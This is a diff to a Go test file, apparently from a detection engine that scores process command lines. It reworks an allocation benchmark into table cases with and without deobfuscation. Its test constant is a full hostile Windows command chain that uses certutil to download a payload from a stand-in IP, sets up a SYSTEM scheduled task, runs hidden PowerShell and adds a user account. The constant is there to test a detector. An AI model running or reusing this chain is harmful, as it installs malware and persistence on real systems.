@@ -263,16 +263,31 @@ func (nopSink) Append(int, []byte) {}
 
 const benchLine = `C:\Windows\System32\cmd.exe /c "certutil.exe -urlcache -split -f http://198.51.100.7:8080/payload.bin %TEMP%\p.exe && schtasks /create /tn Updater /tr %TEMP%\p.exe /sc onlogon /ru SYSTEM && powershell -nop -w hidden -c New-Object System.Net.WebClient" & net user svc_backup P@ssw0rd1 /add & reg add HKLM\Software\x /v y /d z /f`
 
+// Scoring allocates nothing per row, except what the deobfuscation stage's
+// full path allocates on a line it has to rewrite (a few strings: its own
+// ceilings are tested in src/deobfuscate).
 func TestScoreAllocs(t *testing.T) {
 	if race.Enabled {
 		t.Skip("skipping: the race detector allocates")
 	}
-	sc := engine(t, Defaults()).NewScorer()
-	ev := lineEvent([]byte(benchLine), []byte("winword.exe"))
-	var scratch []byte
-	sc.Score(ev).Emit(nopSink{}, scratch)
-	if n := testing.AllocsPerRun(100, func() { scratch = sc.Score(ev).Emit(nopSink{}, scratch) }); n != 0 {
-		t.Errorf("Score+Emit allocates %v times", n)
+	for _, tt := range []struct {
+		line string
+		deob bool
+		max  float64
+	}{
+		{benignLine, true, 0},
+		{benchLine, false, 0},
+		{benchLine, true, 4},
+	} {
+		o := Defaults()
+		o.Deobfuscate = tt.deob
+		sc := engine(t, o).NewScorer()
+		ev := lineEvent([]byte(tt.line), []byte("winword.exe"))
+		var scratch []byte
+		sc.Score(ev).Emit(nopSink{}, scratch)
+		if n := testing.AllocsPerRun(100, func() { scratch = sc.Score(ev).Emit(nopSink{}, scratch) }); n > tt.max {
+			t.Errorf("%.30q deobfuscate=%v: Score+Emit allocates %v times, want at most %v", tt.line, tt.deob, n, tt.max)
+		}
 	}
 }
 
